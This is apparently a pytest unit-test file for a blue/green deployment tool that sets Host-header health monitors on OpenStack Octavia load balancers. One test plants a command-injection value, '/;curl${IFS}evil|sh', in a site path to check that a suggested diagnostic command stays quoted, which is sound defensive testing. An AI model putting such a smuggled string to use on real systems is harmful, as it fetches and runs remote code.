"""A site whose servers answer to their host name alone: `host` of the site file."""

import re
import shlex
from collections.abc import Callable
from dataclasses import replace

import pytest

from ao import fake
from ao.checks import checks
from ao.colour import Colour
from ao.errors import ConfigError, DeadlinePassed, NotSeen
from ao.http.request_options import RequestOptions
from ao.operations import operations, reconcile
from ao.operations.switch_options import SwitchOptions
from ao.plan.plan import DefineMonitor
from ao.site import Method, Site
from ao.site.checks import Check, Checks, Http
from ao.site.status_codes import StatusCodes
from ao.visit import Answer
from ao.work import Work
from tests.unit.operations.sites import SITES, start, url, writes
from tests.unit.release.releases import Listener, released

BLUE, GREEN = Colour
HOST = "shop.example"
WRITE = "load_balancers.write_monitor"


def checked(site: Site, host: str | None = HOST) -> Site:
    """The site with proxies that check servers by HTTP, and a host."""
    check = replace(site.health_check, type="HTTP")
    balancer = SITES[Method.POOL].load_balancer
    deadlines = replace(site.deadlines, serve=60.0)
    return replace(site, host=host, health_check=check, load_balancer=balancer, deadlines=deadlines)


@pytest.fixture(params=list(Method), ids=str)
def site(request: pytest.FixtureRequest) -> Site:
    return checked(SITES[request.param])


def named(work: Work) -> dict[str, tuple[str | None, float | None]]:
    """What each monitor of the cloud names, by its pool."""
    with work.cloud.openstack.lock:
        monitors = work.cloud.openstack.project("shop").octavia.monitors.values()
        return {it.pool.name: (it.domain_name, it.http_version) for it in monitors}


def defined(listener: Listener) -> list[str]:
    """Steps that a command has begun by which a monitor names another host."""
    return [step for step in listener.steps if "health monitor" in step]


def spoil(work: Work, colour: Colour, host: str | None = None) -> None:
    """Have somebody make the monitor of a system name another host, or none."""
    monitor = next(
        it
        for it in work.cloud.openstack.project("shop").octavia.monitors.values()
        if it.pool.name.endswith(str(colour))
    )
    monitor.domain_name, monitor.http_version = host, None if host is None else 1.1


def test_servers_that_answer_to_their_host_alone_are_built_and_switched(site: Site) -> None:
    work = start(site, hosts={HOST})
    assert reconcile.up(work).live is BLUE
    assert set(named(work).values()) == {(HOST, 1.1)}
    reconcile.deploy(work, "2.0")
    facts = reconcile.switch(work)
    assert facts.live is GREEN
    assert facts.systems[GREEN].version == "2.0"
    assert all(it.online == it.size for it in facts.systems.values())


def test_without_the_host_their_health_check_never_passes(site: Site) -> None:
    work = start(replace(site, host=None), hosts={HOST})
    with pytest.raises(DeadlinePassed, match="pass the health check"):
        reconcile.up(work)


def test_with_another_host_than_theirs_nothing_goes_live(site: Site) -> None:
    work = start(replace(site, host="shop.invalid"), hosts={HOST})
    with pytest.raises(DeadlinePassed, match="pass the health check"):
        reconcile.up(work)


def test_requests_go_to_the_address_and_name_the_host(site: Site) -> None:
    work = start(site, hosts={HOST})
    visited: list[tuple[str, str | None]] = []

    def visit(url: str, timeout: float, options: RequestOptions) -> Answer:
        visited.append((url, options.host))
        return work.visit(url, timeout, options)

    reconcile.up(replace(work, visit=visit))
    assert {host for _url, host in visited} == {HOST}
    assert all(url.startswith("http://203.0.113.") for url, _host in visited)


def test_a_site_without_a_host_asks_as_ever_and_nobody_for_its_monitors(site: Site) -> None:
    work = start(replace(site, host=None))
    reconcile.up(work)
    before = len(work.cloud.calls)
    reconcile.deploy(work, "2.0")
    reconcile.switch(work)
    assert set(named(work).values()) == {(None, None)}
    assert WRITE not in writes(work.cloud)
    calls = [call.name for call in work.cloud.calls[before:]]
    assert not [it for it in calls if it.endswith((".monitor", ".api_version"))]


def test_a_second_up_changes_nothing(site: Site) -> None:
    work = start(site, hosts={HOST})
    reconcile.up(work)
    before = len(writes(work.cloud))
    reconcile.up(Work(cloud=work.cloud, site=site, clock=work.clock, visit=work.visit))
    assert len(writes(work.cloud)) == before


@pytest.mark.parametrize("colour", list(Colour))
def test_up_has_a_monitor_name_the_host_again(site: Site, colour: Colour) -> None:
    work = start(site)
    reconcile.up(work)
    spoil(work, colour, "elsewhere.example")
    listener = Listener()
    reconcile.up(replace(work, progress=listener, looks={}))
    assert defined(listener) == [str(DefineMonitor(colour, HOST))]
    assert set(named(work).values()) == {(HOST, 1.1)}


def test_up_mends_a_live_system_of_which_no_server_passes_for_want_of_the_host(
    site: Site,
) -> None:
    work = start(site, hosts={HOST})
    reconcile.up(work)
    spoil(work, BLUE)
    assert work.observe().systems[BLUE].online == 0
    facts = reconcile.up(replace(work, looks={}))
    assert facts.live is BLUE
    assert facts.systems[BLUE].online == 2


def test_a_switch_has_the_standbys_monitor_name_the_host_before_users_reach_it(site: Site) -> None:
    work = start(site, hosts={HOST})
    reconcile.up(work)
    spoil(work, GREEN)
    assert work.observe().systems[GREEN].online == 0
    listener = Listener()
    facts = reconcile.switch(replace(work, progress=listener))
    assert facts.live is GREEN
    assert defined(listener) == [str(DefineMonitor(GREEN, HOST))]
    names = writes(work.cloud)
    moves = [n for n, it in enumerate(names) if it.endswith((".point", ".set_default_pool"))]
    assert len(names) - 1 - names[::-1].index(WRITE) < moves[-1]


@pytest.mark.parametrize(
    "options", [SwitchOptions(force=True), SwitchOptions(compares_monitor=False)]
)
def test_a_switch_that_is_forced_or_goes_back_leaves_monitors_alone(
    site: Site, options: SwitchOptions
) -> None:
    work = start(site)
    reconcile.up(work)
    spoil(work, GREEN, "elsewhere.example")
    before = writes(work.cloud).count(WRITE)
    assert reconcile.switch(work, options=options).live is GREEN
    assert writes(work.cloud).count(WRITE) == before


def test_the_live_system_is_left_alone_while_production_does_not_answer_to_the_host(
    site: Site,
) -> None:
    work = start(replace(site, host=None))
    reconcile.up(work)
    addresses = {it.address for it in work.cloud.floating_ips.all()}
    work.cloud.openstack.hosts = frozenset({None, *addresses})
    spoilt = replace(work, site=site, looks={})
    with pytest.raises(NotSeen) as caught:
        reconcile.up(spoilt)
    assert "curl -i -H 'Host: shop.example' http://203.0.113." in caught.value.cure
    assert (HOST, 1.1) not in [
        value for pool, value in named(work).items() if pool.endswith("blue")
    ]


def test_no_path_of_a_kept_site_file_runs_in_the_command_that_is_told(site: Site) -> None:
    hostile = replace(site, identify=replace(site.identify, path="/;curl${IFS}evil|sh"))
    work = start(replace(hostile, host=None))
    reconcile.up(work)
    addresses = {it.address for it in work.cloud.floating_ips.all()}
    work.cloud.openstack.hosts = frozenset({None, *addresses})
    with pytest.raises(NotSeen) as caught:
        reconcile.up(replace(work, site=hostile, looks={}))
    (told,) = re.findall(r"`(curl [^`]+)`", caught.value.cure)
    assert shlex.split(told)[-1].endswith("/;curl${IFS}evil|sh")


def test_a_release_compares_the_monitor_once_more_right_before_its_switch(site: Site) -> None:
    work = start(site)
    reconcile.up(work)

    def spoil_then(url: str, timeout: float, options: RequestOptions) -> Answer:
        facts = work.observe()
        if facts.live is BLUE and facts.systems[GREEN].version == "2.0" and not spoilt:
            spoilt.append("green")
            spoil(work, GREEN, "elsewhere.example")
        return work.visit(url, timeout, options)

    spoilt: list[str] = []
    released(replace(work, visit=spoil_then))
    assert spoilt
    assert work.observe().live is GREEN
    assert set(named(work).values()) == {(HOST, 1.1)}


def test_a_host_that_comes_into_the_file_is_named_after_production_has_answered_to_it(
    site: Site,
) -> None:
    work = start(replace(site, host=None))
    reconcile.up(work)
    facts = reconcile.up(replace(work, site=site, looks={}))
    assert facts.live is BLUE
    assert set(named(work).values()) == {(HOST, 1.1)}


def test_a_host_that_is_taken_out_of_the_file_is_taken_back(site: Site) -> None:
    work = start(site)
    reconcile.up(work)
    reconcile.up(replace(work, site=replace(site, host=None), looks={}))
    assert set(named(work).values()) == {(None, None)}


def test_a_host_that_somebody_else_has_set_stays_without_one_in_the_file(site: Site) -> None:
    work = start(replace(site, host=None))
    reconcile.up(work)
    spoil(work, GREEN, "by.hand.example")
    reconcile.up(replace(work, looks={}))
    assert ("by.hand.example", 1.1) in named(work).values()


def test_a_repair_by_heat_keeps_the_host(site: Site) -> None:
    work = start(site, hosts={HOST})
    reconcile.up(work)
    for version in ("2.0", "2.1"):
        reconcile.deploy(work, version)
    assert writes(work.cloud).count(WRITE) == 2
    assert set(named(work).values()) == {(HOST, 1.1)}


def test_a_load_balancer_that_is_at_work_is_waited_for(site: Site) -> None:
    work = start(site)
    reconcile.up(work)
    spoil(work, GREEN, "elsewhere.example")
    balancer = work.observe().systems[GREEN].load_balancer
    assert balancer is not None
    work.cloud.load_balancers.reload(balancer)
    reconcile.up(replace(work, looks={}))
    assert set(named(work).values()) == {(HOST, 1.1)}


@pytest.mark.parametrize(
    "order",
    [reconcile.up, lambda work: operations.deploy(work, "2.0")],
    ids=["up", "deploy"],
)
def test_an_octavia_that_is_too_old_refuses_the_host_before_anything_is_built(
    site: Site, order: Callable[[Work], object]
) -> None:
    work = start(replace(site, places={"host": "ao.yaml:7"}), octavia_api=(2, 9))
    built = replace(work, site=replace(site, host=None))
    if order is not reconcile.up:
        reconcile.up(built)
    before = [it for it in writes(work.cloud) if it.startswith("stacks")]
    with pytest.raises(ConfigError, match=r"^ao\.yaml:7: host: .*2\.10 .* has 2\.9"):
        order(replace(work, looks={}))
    assert [it for it in writes(work.cloud) if it.startswith("stacks")] == before


def test_an_old_octavia_does_where_servers_are_checked_by_tcp(site: Site) -> None:
    tcp = replace(site, health_check=replace(site.health_check, type="TCP"))
    work = start(tcp, hosts={HOST}, octavia_api=(2, 0))
    assert reconcile.up(work).live is BLUE
    assert set(named(work).values()) == {(None, None)}


def test_checks_of_the_standby_name_the_host(site: Site) -> None:
    home = Http(path="/", status=200, header={}, body=None, within=None)
    check = Check(name="home", what=home, timeout=3.0, retries=0, pause=0.0)
    work = start(replace(site, checks=Checks(all=(check,), deadline=60.0)), hosts={HOST})
    reconcile.up(work)
    results = checks.run(work, url(work, "preview"), GREEN, "1.0")
    assert not results.failed


@pytest.mark.parametrize("method", ["HEAD", "OPTIONS"])
def test_the_health_check_is_asked_for_by_the_method_of_the_file(site: Site, method: str) -> None:
    work = start(replace(site, health_check=replace(site.health_check, method=method)))
    asked: set[tuple[str, str]] = set()

    def visit(url: str, timeout: float, options: RequestOptions) -> Answer:
        asked.add((url.rpartition("/")[2], options.method))
        return work.visit(url, timeout, options)

    reconcile.up(replace(work, visit=visit))
    assert asked == {("health", method), ("version", "GET")}
    monitors = work.cloud.openstack.project("shop").octavia.monitors.values()
    assert {it.method for it in monitors} == {method}


@pytest.mark.parametrize(
    ("expect", "said"), [("200-204", "200-204"), ("204, 301-302", "204,301,302"), ("204", "204")]
)
def test_servers_pass_and_production_is_seen_by_any_of_the_statuses(
    site: Site, expect: str, said: str
) -> None:
    def application(server: fake.Server, path: str) -> Answer | None:
        told = fake.answer(server, path)
        return replace(told, status=204) if told and path == "/health" else told

    check = replace(site.health_check, expect=StatusCodes.parse(expect))
    work = start(replace(site, health_check=check), application=application)
    assert reconcile.up(work).live is BLUE
    monitors = work.cloud.openstack.project("shop").octavia.monitors.values()
    assert {it.expected for it in monitors} == {said}
